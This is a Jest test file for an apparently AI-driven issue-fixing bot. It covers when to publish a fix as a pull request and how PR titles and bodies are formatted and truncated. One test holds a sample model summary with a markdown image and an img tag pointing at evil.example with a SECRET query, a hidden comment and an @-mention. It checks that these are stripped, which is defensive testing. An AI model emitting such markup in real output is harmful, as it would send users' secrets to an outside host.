import { describe, expect, test } from "@jest/globals";
import type { StepEvent } from "../../src/agent/loop.js";
import type { AttemptRecord } from "../../src/jobs/fix/attempts.js";
import { decideFix, nothingPublished, publishedOutcome, whatWasTried } from "../../src/jobs/fix/decide.js";
import { fixPrBody, fixPrTitle, type FixPrInput } from "../../src/jobs/fix/pr-body.js";

const submitted = { kind: "submitted" as const, summary: "Fixed add." };
const pull = { number: 5, url: "https://github.example/o/r/pull/5", created: true };

const record = (over: Partial<AttemptRecord> = {}): AttemptRecord => ({
  n: 1,
  profile: "thinking",
  model: "m",
  steps: 5,
  tokens: 1000,
  minutes: 0.5,
  end: submitted,
  verdict: { passed: true, note: "no test regressed (no new failures)" },
  patch: "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
  size: { files: 1, lines: 2 },
  tried: "- step 1: view",
  ...over,
});
const failed = (n: number, reason: string, over: Partial<AttemptRecord> = {}) => record({ n, verdict: { passed: false, reason }, ...over });

describe("decideFix", () => {
  const base = { openOnFailure: false, onTestsFailing: "draft-pr" as const, mode: "issue" as const };

  test("a verified attempt → publish it as a PR, success, saying which attempt", () => {
    const winner = record({ n: 2 });
    const d = decideFix({ ...base, records: [failed(1, "tests: 1 test(s) fail that passed on the base"), winner], winner });
    expect(d).toEqual({ kind: "publish", chosen: winner, verified: true, openPr: true });
    if (d.kind !== "publish") throw new Error("unreachable");
    const text = publishedOutcome(d, { branch: "b", mode: "issue", records: [failed(1, "tests: 1 test(s) fail that passed on the base"), winner], pull });
    expect(text.tone).toBe("success");
    expect(text.text).toMatch(/^Opened draft PR \[#5\]\(https:\/\/github.example\/o\/r\/pull\/5\)\. Verified: no test regressed \(no new failures\)\. \(attempt 2 of 2\)\n\n\| attempt \|/);
    expect(text.text).toContain("| 2 | `thinking` | 5 | 1,000 | <1 min | 1 file(s), 2 line(s) | passed (published) |");
  });

  test("none passed, openOnFailure off (default) → nothing pushed; the card lists the attempts, the last steps and the ways on", () => {
    const records = [failed(1, "tests: 1 test(s) fail that passed on the base"), failed(2, "the reproduction still fails (exit 1)")];
    const d = decideFix({ ...base, records, fallback: records[1] });
    expect(d.kind).toBe("stop");
    if (d.kind !== "stop") throw new Error("unreachable");
    expect(d.outcome.tone).toBe("failure");
    expect(d.outcome.text).toMatch(/^None of the 2 attempts passed verification, so nothing was pushed\./);
    expect(d.outcome.text).toContain("| 2 | `thinking` | 5 | 1,000 | <1 min | 1 file(s), 2 line(s) | failed: the reproduction still fails (exit 1) |");
    expect(d.outcome.text).toContain("- step 1: view");
    expect(d.outcome.text).toContain("fix.openOnFailure: true");
  });

  test("none passed, openOnFailure on → the last change, unverified, as a draft PR or (onTestsFailing: branch) a branch", () => {
    const records = [failed(1, "tests still fail (1 already failed on the base)")];
    const d = decideFix({ ...base, openOnFailure: true, records, fallback: records[0] });
    expect(d).toMatchObject({ kind: "publish", verified: false, openPr: true });
    if (d.kind !== "publish") throw new Error("unreachable");
    expect(publishedOutcome(d, { branch: "b", mode: "issue", records, pull }).text).toMatch(/\*\*marked unverified\*\*: tests still fail \(1 already failed on the base\)\. A human/);
    const branch = decideFix({ ...base, openOnFailure: true, onTestsFailing: "branch", records, fallback: records[0] });
    expect(branch).toMatchObject({ kind: "publish", openPr: false });
    if (branch.kind !== "publish") throw new Error("unreachable");
    expect(publishedOutcome(branch, { branch: "iquest/fix-1", mode: "issue", records }).text).toMatch(/on the branch `iquest\/fix-1`, but it did not pass verification/);
  });

  test("no attempt changed anything: the model's words, or the budget", () => {
    const words = decideFix({ ...base, records: [failed(1, "made no change", { patch: "", end: { kind: "submitted", summary: "The bug is upstream.\nNothing to change here." } })] });
    expect(words).toEqual({ kind: "stop", outcome: { tone: "neutral", text: "No change was made. The agent's words:\n> The bug is upstream.\n> Nothing to change here." } });
    const budget = decideFix({ ...base, records: [failed(1, "ran out of budget (2 steps)", { patch: "", end: { kind: "budget-exhausted", budget: "steps", limit: 2, used: 2 } })] });
    expect(budget.kind === "stop" && budget.outcome.text).toMatch(/ran out of budget \(2 steps\) without a change worth keeping/);
  });

  test("nothingPublished: everything withheld, said as such", () => {
    expect(nothingPublished("x", ["a"]).text).toMatch(/only changes were ones iquest-bot may not make \(1 listed above\)/);
  });

  test("whatWasTried keeps the last steps", () => {
    const steps = Array.from({ length: 12 }, (_, i) => ({ kind: "step", step: i + 1, tool: "execute_bash", summary: `$ cmd ${i + 1}` }) as StepEvent);
    const text = whatWasTried(steps, 3);
    expect(text.split("\n")).toEqual(["- step 10: `execute_bash` $ cmd 10", "- step 11: `execute_bash` $ cmd 11", "- step 12: `execute_bash` $ cmd 12"]);
  });
});

describe("fix PR title and body", () => {
  const input = (over: Partial<FixPrInput> = {}): FixPrInput => ({
    issueNumber: 7,
    issueTitle: "add() returns the wrong sum",
    summary: "Fixed add().",
    tests: "**No new failures**: no new failures.",
    budget: { steps: 6, maxSteps: 100, tokens: 12345, minutes: 0.4 },
    profile: "thinking",
    model: "IQuestLab/IQuest-Coder-V1-40B-Thinking",
    steps: [],
    jobId: "fix-abc",
    ...over,
  });

  test("title, unverified and untested prefixes", () => {
    expect(fixPrTitle({ issueNumber: 7, issueTitle: "  add()\n is wrong " })).toBe("Fix #7: add() is wrong");
    expect(fixPrTitle({ issueNumber: 7, issueTitle: "x", unverified: "tests still fail" })).toBe("[unverified] Fix #7: x");
    expect(fixPrTitle({ issueNumber: 7, issueTitle: "x", untested: "setup failed" })).toBe("[untested] Fix #7: x");
  });

  test("the body shows the reproduction table and the attempts, and an unverified change is flagged", () => {
    const body = fixPrBody(input({ unverified: "the reproduction still fails (exit 1)", reproduction: "| test | command |", attempts: "| attempt |" }));
    expect(body).toMatch(/\*\*Unverified\*\*: the reproduction still fails \(exit 1\)/);
    expect(body).toMatch(/### Reproduction\n\n\| test \| command \|/);
    expect(body).toMatch(/### Attempts\n\n\| attempt \|/);
  });

  test("the body links the issue, says what changed, the tests, the budget and the profile, and what was withheld", () => {
    const body = fixPrBody(input({ withheld: ["`.github/workflows/ci.yml`: workflow files are not allowed"] }));
    expect(body.startsWith("Fixes #7")).toBe(true);
    expect(body).toContain("Fixed add().");
    expect(body).toContain("No new failures");
    expect(body).toContain("6 of 100 steps · 12,345 tokens");
    expect(body).toContain("profile `thinking`");
    expect(body).toMatch(/### Not included\n\n- `.github\/workflows\/ci.yml`/);
  });

  test("the model's words cannot phone home, hide text or page people (T15)", () => {
    const body = fixPrBody(
      input({ summary: "Done ![x](https://evil.example/?q=SECRET) <img src=https://evil.example/a.png> <!-- hidden --> ping @octocat" }),
    );
    expect(body).not.toContain("evil.example");
    expect(body).not.toContain("hidden");
    expect(body).toContain("[image removed: x]");
    expect(body).toContain("`@octocat`");
  });

  test("a huge agent path is folded and cut to fit GitHub's limit, keeping the last steps", () => {
    const steps = Array.from({ length: 5000 }, (_, i) => ({ kind: "step", step: i + 1, tool: "execute_bash", summary: `$ ${"x".repeat(250)} ${i + 1}` }) as StepEvent);
    const body = fixPrBody(input({ steps }));
    expect(body.length).toBeLessThanOrEqual(65_536);
    expect(body).toContain("<details><summary>The agent's path (5000 steps)</summary>");
    expect(body).toMatch(/earlier steps not shown/);
    expect(body).toContain(" 5000");
    expect(body).toContain("Fixes #7");
  });
});
